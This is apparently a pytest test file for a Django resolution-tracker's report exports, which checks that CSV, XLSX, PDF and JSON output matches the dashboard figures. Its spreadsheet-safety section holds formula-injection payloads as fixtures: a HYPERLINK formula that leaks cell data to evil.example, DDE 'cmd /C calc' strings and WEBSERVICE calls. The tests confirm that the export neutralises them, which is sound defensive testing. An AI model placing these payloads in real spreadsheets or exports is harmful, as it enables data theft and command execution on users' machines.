"""Per-resolution reports (CSV, XLSX, PDF, JSON), the filtered action-list exports and the
offline command: every format is parsed back and its numbers compared with the roll-up's (the
dashboard's) for the same as-of date."""

import csv
import io
import json
from datetime import date

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from exports.actions import ACTION_COLUMNS
from exports.formats import REPORT_COLUMNS, column_keys, column_labels
from exports.safety import safe_cell, safe_xlsx_cell
from resolutions.models import Action, StatusUpdate
from resolutions.models.status_updates import StatusUpdateQuerySet
from resolutions.rollup import paragraph_rollups, resolution_rollup
from resolutions.status import ASSESSED
from tests import factories as f
from workflow.services import status_update_create

BEFORE, AFTER = "2018-06-01", "2018-11-29"
NO_PARAGRAPH = "Mandates with no known paragraph"


def report_url(slug, fmt, as_of=None):
    url = reverse("resolution_report", args=[slug, fmt])
    return f"{url}?as_of={as_of}" if as_of else url


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def read_csv(response) -> list[dict]:
    content = body(response)
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM for Excel"
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def day(as_of):
    return date.fromisoformat(as_of) if as_of else timezone.localdate()


def actions_by_key(resolution, as_of):
    return {a.key: a for a in Action.objects.with_status(day(as_of)).filter(resolution=resolution)}


def weighted_percent(rows):
    """The resolution's weighted % recomputed from the CSV, counting each action once."""
    actions = {r["action_id"]: r for r in rows if r["action_id"]}
    # Not applicable and not yet due are not scored (their credit is empty); with no assessed
    # action there is no percentage at all (#11).
    scored = [r for r in actions.values() if r["credit_percent"] != ""]
    if not scored or not any(r["status"] in ASSESSED for r in scored):
        return None
    weights = sum(int(r["weight"]) for r in scored)
    return round(sum(int(r["weight"]) * int(r["credit_percent"]) for r in scored) / weights, 1)


def pdf_text(content: bytes) -> tuple[int, str]:
    reader = PdfReader(io.BytesIO(content))
    return len(reader.pages), "\n".join(page.extract_text() for page in reader.pages)


# -- CSV ------------------------------------------------------------------------------------


@pytest.mark.parametrize("as_of", [BEFORE, AFTER, None])
def test_csv_numbers_equal_the_rollup_and_the_dashboard(client, seeded, as_of):
    response = client.get(report_url(seeded.slug, "csv", as_of))
    assert response.status_code == 200
    rows = read_csv(response)
    rollup = resolution_rollup(seeded, day(as_of))
    assert weighted_percent(rows) == rollup.percent
    dashboard = client.get(f"/?as_of={as_of}" if as_of else "/").content.decode()
    if rollup.percent is None:
        assert "Not assessed" in dashboard and "0 of 7 actions assessed" in dashboard
    else:
        assert f"{rollup.percent}%" in dashboard

    actions = actions_by_key(seeded, as_of)
    by_action = {r["action_key"]: r for r in rows if r["action_key"]}
    assert set(by_action) == set(actions)
    for key, action in actions.items():
        row = by_action[key]
        assert row["status"] == action.current_status
        assert row["credit_percent"] == ("" if action.credit is None else str(action.credit))
        assert row["overdue"] == str(action.is_overdue).lower()
        assert row["stale"] == str(action.is_stale).lower()

    paragraphs = {p.number: p for p in seeded.paragraphs.all()}
    p_rollups = paragraph_rollups([p.pk for p in paragraphs.values()], day(as_of))
    for row in rows:
        if row["section"] == "Paragraph":
            p = paragraphs[row["paragraph"]]
            expected = p_rollups[p.pk].percent if p.is_operative else None
            assert row["paragraph_progress_percent"] == ("" if expected is None else str(expected))
    # Every paragraph in order, preambular ones included, then the unplaced mandates.
    assert [r["paragraph"] for r in rows if r["section"] == "Paragraph"] == [
        "PP1",
        "PP2",
        "PP3",
        "4",
        "5",
        "7",
        "8",
    ]
    unplaced = [r["action_key"] for r in rows if r["section"] == NO_PARAGRAPH]
    assert unplaced == ["contact-group", "annual-conference", "code-of-conduct"]
    assert {r["as_of"] for r in rows} == {day(as_of).isoformat()}


def test_as_of_dates_give_different_correct_statuses(client, seeded):
    statuses = {}
    for as_of in (BEFORE, AFTER, None):
        rows = read_csv(client.get(report_url(seeded.slug, "csv", as_of)))
        statuses[as_of] = {r["action_key"]: r["status"] for r in rows if r["action_key"]}
    assert statuses[BEFORE]["contact-group"] == "not_yet_assessed"
    assert statuses[AFTER]["contact-group"] == "completed"
    assert statuses[BEFORE]["network"] == "not_yet_assessed"
    assert statuses[AFTER]["network"] == "in_progress"
    assert statuses[BEFORE]["training"] == "not_yet_assessed"
    assert statuses[AFTER]["training"] == "in_progress"
    assert statuses[BEFORE]["code-of-conduct"] == "not_yet_assessed"
    assert statuses[AFTER]["code-of-conduct"] == "not_started"
    # #11: the 1st conference (21 Nov 2017) predates adoption, so in June 2018 the annual
    # mandate's first occurrence is not yet due; the last one (June 2022) is more than a year
    # old today, which is "no occurrence recorded", not "delayed".
    assert statuses[BEFORE]["annual-conference"] == "not_yet_due"
    assert statuses[AFTER]["annual-conference"] == "ongoing"
    assert statuses[None]["annual-conference"] == "no_occurrence"
    rows = read_csv(client.get(report_url(seeded.slug, "csv", AFTER)))
    network = next(r for r in rows if r["action_key"] == "network")
    assert network["latest_update_as_of"] == AFTER
    assert "welcomed the initial steps" in network["latest_note"]
    assert "Annex, Second Session" in network["evidence"]
    # Imported without a named verifier: reported, not verified (#11).
    assert network["latest_update_verification"] == "reported"


# -- XLSX -----------------------------------------------------------------------------------


def test_xlsx_carries_metadata_headline_and_the_paragraph_table(client, seeded):
    response = client.get(report_url(seeded.slug, "xlsx", AFTER))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Summary", "Paragraphs", "Occurrences", "Sources"]
    summary = {row[0]: row[1] for row in workbook["Summary"].iter_rows(values_only=True) if row}
    rollup = resolution_rollup(seeded, date(2018, 11, 29))
    assert summary["Resolution"] == "53/45-POL"
    assert summary["Title"] == "Strengthening the Mediation Capacity of the OIC"
    assert summary["As of"].date() == date(2018, 11, 29)
    assert summary["Generated at"]
    assert summary["Weighted progress (%)"] == rollup.percent == 28.6
    assert summary["Actions"] == rollup.total
    for status, count in rollup.distribution:
        assert summary[status.label] == count

    sheet = workbook["Paragraphs"].iter_rows(values_only=True)
    # People read the workbook: its headings are labels; the CSV's column keys, by position.
    header = next(sheet)
    assert list(header) == column_labels(REPORT_COLUMNS)
    assert header[:4] == ("Resolution", "As of", "Section", "Paragraph")
    rows = [dict(zip(column_keys(REPORT_COLUMNS), row, strict=True)) for row in sheet]
    csv_rows = read_csv(client.get(report_url(seeded.slug, "csv", AFTER)))
    assert [(r["paragraph"] or "", r["action_key"] or "", r["status"] or "") for r in rows] == [
        (r["paragraph"], r["action_key"], r["status"]) for r in csv_rows
    ]
    contact = next(r for r in rows if r["action_key"] == "contact-group")
    assert contact["section"] == NO_PARAGRAPH and contact["credit_percent"] == 100

    occurrences = [row[3] for row in workbook["Occurrences"].iter_rows(min_row=2, values_only=True)]
    assert "Second OIC Member States Conference on Mediation" in occurrences
    assert "OIC Conference on Mediation (fourth in the series)" not in occurrences  # 2022
    sources = [row[0] for row in workbook["Sources"].iter_rows(min_row=2, values_only=True)]
    assert "un-19-01473" in sources and "mfa-tr-pr-252" in sources


# -- PDF ------------------------------------------------------------------------------------


def test_pdf_reads_like_a_report_with_the_rollup_numbers(client, seeded):
    response = client.get(report_url(seeded.slug, "pdf", AFTER))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert body(response).startswith(b"%PDF")
    pages, text = pdf_text(body(response))
    assert pages >= 2
    rollup = resolution_rollup(seeded, date(2018, 11, 29))
    assert f"{rollup.percent}%" in text  # 28.6%
    for status, count in rollup.distribution:
        # pypdf mirrors parentheses on a page that also holds Arabic text (PP1's Arabic
        # original): "Ongoing )on track( 1". The PDF itself is right (pdftotext reads it so).
        wanted = f"{status.label} {count}"
        assert wanted in text or wanted.translate(str.maketrans("()", ")(")) in text
    for heading in (
        "1. Introduction",
        "2. Headline progress",
        "3. Progress paragraph by paragraph",
        f"4. {NO_PARAGRAPH}",
        "5. Conclusions drawn from the data",
        "6. Sources",
        "7. How progress is computed",
        "Annex: the same information in tables",
        "Occurrences and sourced figures",
    ):
        assert heading in text
    # Running header with the symbol and the date, numbered pages (the cover has none).
    assert "53/45-POL · Implementation progress report" in text
    assert "As of 29 November 2018" in text
    assert f"Page 2 of {pages}" in text and f"Page {pages} of {pages}" in text
    assert f"Page 1 of {pages}" not in text
    assert "Generated " in text
    assert "Prepare a Code of Conduct for" in text  # a mandate with no known paragraph
    # A sourced figure (portrait columns may wrap the label).
    assert "Members of the Contact Group" in " ".join(text.split())
    assert "تعزيز قدرات منظمة التعاون الإسلامي في مجال الوساطة" in text  # Arabic title, shaped
    assert "fourth in the series" not in text  # the 2022 conference is after the as-of date
    assert PdfReader(io.BytesIO(body(response))).metadata.title.startswith("53/45-POL")


def test_pdf_never_fetches_from_the_network():
    from exports.formats import _refuse_fetch

    with pytest.raises(ValueError, match="does not fetch"):
        _refuse_fetch("https://example.org/tracker.css")
    with pytest.raises(ValueError):
        _refuse_fetch("file:///etc/passwd")


# -- JSON -----------------------------------------------------------------------------------


def test_json_export_holds_only_what_was_known_on_the_as_of_date(client, seeded):
    early = json.loads(client.get(report_url(seeded.slug, "json", BEFORE)).content)
    late = json.loads(client.get(report_url(seeded.slug, "json", AFTER)).content)
    assert early["format"] == late["format"] == "resolution-tracker/1"

    def updates(data):
        return {
            (a["key"], u["key"]) for a in data["resolution"]["actions"] for u in a["status_updates"]
        }

    def occurrences(data):
        return {o["key"] for a in data["resolution"]["actions"] for o in a["occurrences"]}

    assert updates(early) == set()  # nothing had been assessed by 1 June 2018
    assert ("contact-group", "mfa-2018-09-24") in updates(late)
    assert len(updates(late)) == StatusUpdate.objects.filter(as_of__lte=date(2018, 11, 29)).count()
    assert occurrences(early) == {"conference-1"}
    assert "conference-2" in occurrences(late) and "conference-4" not in occurrences(late)


# -- common to every format ----------------------------------------------------------------


@pytest.mark.parametrize(
    "fmt,content_type",
    [
        ("csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("json", "application/json"),
    ],
)
def test_downloads_are_named_attachments(client, seeded, fmt, content_type):
    response = client.get(report_url(seeded.slug, fmt, AFTER))
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == (
        f'attachment; filename="53-45-POL-progress-2018-11-29.{fmt}"'
    )
    today = client.get(report_url(seeded.slug, fmt))
    assert (
        f"53-45-POL-progress-{timezone.localdate().isoformat()}.{fmt}"
        in (today["Content-Disposition"])
    )


def test_bad_as_of_is_a_400_with_a_message(client, db):
    resolution = f.resolution()
    for fmt in ("pdf", "xlsx", "csv", "json"):
        for value, says in [
            ("2018-13-45", "must be a date written YYYY-MM-DD"),
            ("yesterday", "must be a date written YYYY-MM-DD"),
            ("2999-01-01", "cannot be in the future"),
        ]:
            response = client.get(report_url(resolution.slug, fmt, value))
            assert response.status_code == 400, (fmt, value)
            assert "“as_of”" in response.content.decode() and says in response.content.decode()


def test_unknown_or_hidden_resolution_is_404(client, seeded, settings):
    assert client.get(report_url("nope", "csv")).status_code == 404
    hidden = f.resolution(is_synthetic=True)
    settings.SHOW_SYNTHETIC_RESOLUTIONS = False
    assert client.get(report_url(hidden.slug, "csv")).status_code == 404


def test_drafts_and_submitted_updates_stay_out_of_every_export(client, seeded):
    network = Action.objects.get(key="network")
    f.update(network, "completed", "2018-11-29", note="DRAFT not yet reviewed", state="draft")
    f.update(
        network, "completed", "2018-11-29", note="SUBMITTED awaiting review", state="submitted"
    )
    f.update(
        network,
        "in_progress",
        "2018-11-29",
        note="REPORTED by the Secretariat",
        verification="reported",
    )
    rows = read_csv(client.get(report_url(seeded.slug, "csv", AFTER)))
    row = next(r for r in rows if r["action_key"] == "network")
    assert (row["status"], row["latest_update_verification"]) == ("in_progress", "reported")
    assert row["latest_note"] == "REPORTED by the Secretariat"
    outputs = [
        client.get(report_url(seeded.slug, "json", AFTER)).content.decode(),
        body(client.get("/actions/export.csv?as_of=2018-11-29")).decode(),
        client.get("/api/status-updates/").content.decode(),
        client.get(
            f"/resolutions/{seeded.slug}/changes.csv?from=2018-06-01&to=2018-11-29"
        ).content.decode(),
    ]
    for output in outputs:
        assert "DRAFT" not in output and "SUBMITTED" not in output
    assert '"verification": "reported"' in outputs[0]


def test_public_gate_is_the_only_source_of_status_updates(client, seeded, monkeypatch):
    """Exports read updates only through StatusUpdate.objects.public(): narrowing that one
    gate narrows every export."""
    network = Action.objects.get(key="network")
    f.update(network, "completed", "2018-11-29", note="UNPUBLISHED draft assessment")
    monkeypatch.setattr(
        StatusUpdateQuerySet, "public", lambda self: self.exclude(note__startswith="UNPUBLISHED")
    )
    rows = read_csv(client.get(report_url(seeded.slug, "csv", AFTER)))
    row = next(r for r in rows if r["action_key"] == "network")
    assert row["status"] == "in_progress" and "UNPUBLISHED" not in row["latest_note"]
    data = client.get(report_url(seeded.slug, "json", AFTER)).content.decode()
    assert "UNPUBLISHED" not in data
    listing = body(client.get("/actions/export.csv?as_of=2018-11-29")).decode()
    assert "UNPUBLISHED" not in listing


# -- spreadsheet safety ----------------------------------------------------------------------

MALICIOUS = {
    "network": '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")',
    "training": "+cmd|' /C calc'!A0",
    "code-of-conduct": "-2+3+cmd|' /C calc'!A0",
    "pscru": "@SUM(1+1)*cmd|' /C calc'!A0",
    "partnerships": "\t=1+1",
}


@pytest.fixture
def malicious(seeded):
    for key, note in MALICIOUS.items():
        status_update_create(
            action=Action.objects.get(key=key),
            status="in_progress",
            as_of=date(2018, 12, 1),
            note=note,
            author=None,
            author_name="\r=cmd()",
            evidence=[{"url": "https://example.org/x", "title": '=WEBSERVICE("http://x")'}],
        )
    return seeded


def test_safe_cell_rules():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("\r=1") == "'\r=1"
    assert safe_cell("Plain text, with = inside") == "Plain text, with = inside"
    assert safe_cell(-5) == -5 and safe_cell(28.6) == 28.6  # numbers stay numbers
    assert safe_cell(None) == "" and safe_cell(True) == "true"
    assert safe_xlsx_cell("bell\x07=") == "bell="  # characters XLSX cannot hold are dropped


def test_csv_injection_is_neutralised(client, malicious):
    rows = read_csv(client.get(report_url(malicious.slug, "csv", "2018-12-01")))
    notes = {r["action_key"]: r["latest_note"] for r in rows if r["action_key"]}
    evidence = {r["action_key"]: r["evidence"] for r in rows if r["action_key"]}
    for key, note in MALICIOUS.items():
        assert notes[key] == "'" + note
        assert evidence[key] == '\'=WEBSERVICE("http://x")'
    listing = read_csv(client.get("/actions/export.csv?as_of=2018-12-01"))
    for row in listing:
        if row["action_key"] in MALICIOUS:
            assert row["latest_note"] == "'" + MALICIOUS[row["action_key"]]
    for row in rows + listing:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit()


def test_xlsx_injection_is_neutralised(client, malicious):
    for url in (
        report_url(malicious.slug, "xlsx", "2018-12-01"),
        "/actions/export.xlsx?as_of=2018-12-01",
    ):
        workbook = load_workbook(io.BytesIO(client.get(url).content))
        seen = 0
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                    if isinstance(cell.value, str) and cell.value.startswith(
                        ("=", "+", "-", "@", "\t", "\r")
                    ):
                        # Text, shown as written (no apostrophe), quoted by the cell's style
                        # so that editing it in Excel keeps it text.
                        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                        seen += cell.value in set(MALICIOUS.values())
        assert seen == len(MALICIOUS), url


# -- the filtered action list ----------------------------------------------------------------


def test_action_list_csv_streams_the_filtered_rows(client, seeded):
    response = client.get("/actions/export.csv?as_of=2018-11-29&status=in_progress")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Disposition"] == (
        'attachment; filename="actions-progress-2018-11-29.csv"'
    )
    rows = read_csv(response)
    assert sorted(r["action_key"] for r in rows) == ["network", "training"]
    assert {r["status_label"] for r in rows} == {"In progress"}

    rows = read_csv(client.get(f"/actions/export.csv?as_of={BEFORE}&resolution={seeded.slug}"))
    actions = actions_by_key(seeded, BEFORE)
    assert {r["action_key"]: r["status"] for r in rows} == {
        k: a.current_status for k, a in actions.items()
    }
    assert {r["as_of"] for r in rows} == {BEFORE}
    # The same rows, in the same order, as the /actions/ page for that query string.
    page = client.get(f"/actions/?as_of={BEFORE}&resolution={seeded.slug}").content.decode()
    positions = [page.index(reverse("action_detail", args=[int(r["action_id"])])) for r in rows]
    assert positions == sorted(positions)


def test_action_list_xlsx(client, seeded):
    response = client.get("/actions/export.xlsx?as_of=2018-11-29&status=completed")
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('actions-progress-2018-11-29.xlsx"')
    rows = list(load_workbook(io.BytesIO(response.content))["Actions"].iter_rows(values_only=True))
    keys = column_keys(ACTION_COLUMNS)
    header, data = rows[0], [dict(zip(keys, r, strict=True)) for r in rows[1:]]
    assert "Latest note" in header and len(header) == len(keys)
    assert [(r["action_key"], r["status"], r["credit_percent"]) for r in data] == [
        ("contact-group", "completed", 100)
    ]


def test_action_list_bad_parameters_are_400(client, db):
    f.action(f.resolution())
    for fmt in ("csv", "xlsx"):
        for query, says in [
            ("status=bogus", "bogus"),
            ("as_of=2018-02-30", "“as_of”"),
            ("overdue=maybe", "maybe"),
            ("resolution=nope", "nope"),
        ]:
            response = client.get(f"/actions/export.{fmt}?{query}")
            assert response.status_code == 400, (fmt, query)
            assert says in response.content.decode()


def test_export_urls_come_before_the_action_detail_route(client, seeded):
    assert reverse("action_export", args=["csv"]) == "/en/actions/export.csv"
    assert client.get("/actions/export.csv").status_code == 200


# -- query budgets ----------------------------------------------------------------------------

# The JSON export reads the body and its memberships (two queries) and declares the vocabulary
# terms it uses (mandate types, actor kinds, addressees, verbs: one query each), #15.
BUDGET = 26
EXPORTS = ["report.csv", "report.xlsx", "report.json", "report.pdf", "actions.csv", "actions.xlsx"]


def export_url(seeded, name):
    kind, fmt = name.split(".")
    if kind == "report":
        return report_url(seeded.slug, fmt, AFTER)
    return f"/actions/export.{fmt}?as_of={AFTER}"


# The budget is checked at 1x and 10x in tests/test_query_budget_at_scale.py.


# -- the offline command ---------------------------------------------------------------------


def test_export_report_command_writes_the_same_reports(client, seeded, tmp_path, settings):
    # The command makes page addresses absolute on SITE_URL; the test client's host is this.
    settings.SITE_URL = "http://testserver"
    for fmt in ("csv", "json"):
        out = tmp_path / f"out.{fmt}"
        call_command(
            "export_report", "53-45-pol", "--format", fmt, "--as-of", AFTER, "-o", str(out)
        )
        assert out.read_bytes() == client.get(report_url(seeded.slug, fmt, AFTER)).content
    out = tmp_path / "out.pdf"
    call_command("export_report", "53/45-POL", "--format", "pdf", "--as-of", AFTER, "-o", str(out))
    pages, text = pdf_text(out.read_bytes())
    assert pages >= 2 and "28.6%" in text


def test_export_report_command_default_name(seeded, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    call_command("export_report", "53-45-pol", "--format", "csv", "--as-of", BEFORE)
    assert (tmp_path / "53-45-POL-progress-2018-06-01.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_export_report_command_errors(seeded, tmp_path):
    with pytest.raises(CommandError, match="No resolution"):
        call_command("export_report", "nope", "-o", str(tmp_path / "x"))
    with pytest.raises(CommandError, match="YYYY-MM-DD"):
        call_command(
            "export_report", "53-45-pol", "--as-of", "29/11/2018", "-o", str(tmp_path / "x")
        )


def test_schema_is_published(client, db):
    for url in ("/api/schema/resolution-export-v1.json", reverse("export_schema")):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"] == "application/schema+json"
        schema = json.loads(b"".join(response.streaming_content))
        assert schema["$id"] == "/api/schema/resolution-export-v1.json"
        assert schema["properties"]["format"] == {"const": "resolution-tracker/1"}


# -- links from the public pages ---------------------------------------------------------------


def _links(html):
    """{visible text: href} of the page's links (hrefs unescaped)."""
    import html as html_lib
    import re

    return {
        re.sub(r"<[^>]+>", "", text).strip(): html_lib.unescape(href)
        for href, text in re.findall(r'<a href="([^"]*)"[^>]*>(.*?)</a>', html, re.S)
    }


XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
REPORT_LINKS = {
    "PDF report": ("pdf", "application/pdf"),
    "XLSX workbook": ("xlsx", XLSX_TYPE),
    "CSV table": ("csv", "text/csv; charset=utf-8"),
    "JSON open data": ("json", "application/json"),
}


@pytest.mark.parametrize("as_of", [AFTER, None])
def test_resolution_page_links_every_report_for_its_date(client, seeded, as_of):
    page = client.get(f"/resolutions/{seeded.slug}/" + (f"?as_of={as_of}" if as_of else ""))
    html = page.content.decode()
    links = _links(html)
    for text, (fmt, content_type) in REPORT_LINKS.items():
        expected = reverse("resolution_report", args=[seeded.slug, fmt])
        assert links[text] == expected + (f"?as_of={as_of}" if as_of else ""), text
        response = client.get(links[text])
        assert response.status_code == 200, text
        assert response["Content-Type"] == content_type, text
        day = as_of or timezone.localdate().isoformat()
        assert f"53-45-POL-progress-{day}.{fmt}" in response["Content-Disposition"]
    # The past date is said next to the links (which point to it with aria-describedby).
    if as_of:
        assert 'Report and data as they stood on <time datetime="2018-11-29">29 November 2018' in (
            html
        )
    # The four files, and the one-page brief as a page and as a PDF.
    assert html.count('aria-describedby="reports-state"') == 6
    changes = links["What changed between two dates"]
    assert changes == reverse("resolution_changes", args=[seeded.slug])
    assert client.get(changes).status_code == 200


def test_resolution_page_links_keep_the_language(seeded):
    from django.test import Client

    html = Client().get(f"/ar/resolutions/{seeded.slug}/?as_of={AFTER}").content.decode()
    hrefs = set(_links(html).values())
    for fmt in ("pdf", "xlsx", "csv", "json"):
        assert f"/ar/resolutions/{seeded.slug}/report.{fmt}?as_of={AFTER}" in hrefs
    assert f"/ar/resolutions/{seeded.slug}/changes/" in hrefs
    response = Client().get(f"/ar/resolutions/{seeded.slug}/report.csv?as_of={AFTER}")
    assert "قيد التنفيذ" in response.content.decode("utf-8-sig")  # "In progress", in Arabic


def test_action_list_export_links_carry_the_filters(client, seeded):
    query = f"status=in_progress&resolution={seeded.slug}&as_of={AFTER}&sort=title&page=1"
    html = client.get(f"/actions/?{query}").content.decode()
    links = _links(html)
    for text, fmt in (("Export CSV", "csv"), ("Export XLSX", "xlsx")):
        href = links[text]
        path, _, kept = href.partition("?")
        assert path == reverse("action_export", args=[fmt])
        # Every filter of the page, and not the page number: the file holds every page.
        assert sorted(kept.split("&")) == sorted(
            p for p in query.split("&") if not p.startswith("page=")
        )
        response = client.get(href)
        assert response.status_code == 200, text
    rows = read_csv(client.get(links["Export CSV"]))
    assert sorted(r["action_key"] for r in rows) == ["network", "training"]
    assert {r["as_of"] for r in rows} == {AFTER}
    assert "as it stood on" in html  # the past date is said next to the links
    assert response["Content-Type"] == XLSX_TYPE


def test_action_list_hides_export_links_while_a_filter_is_unusable(client, seeded):
    html = client.get("/actions/?status=bogus").content.decode()
    assert "Export CSV" not in html
    assert "Correct the values noted above to download this list." in html
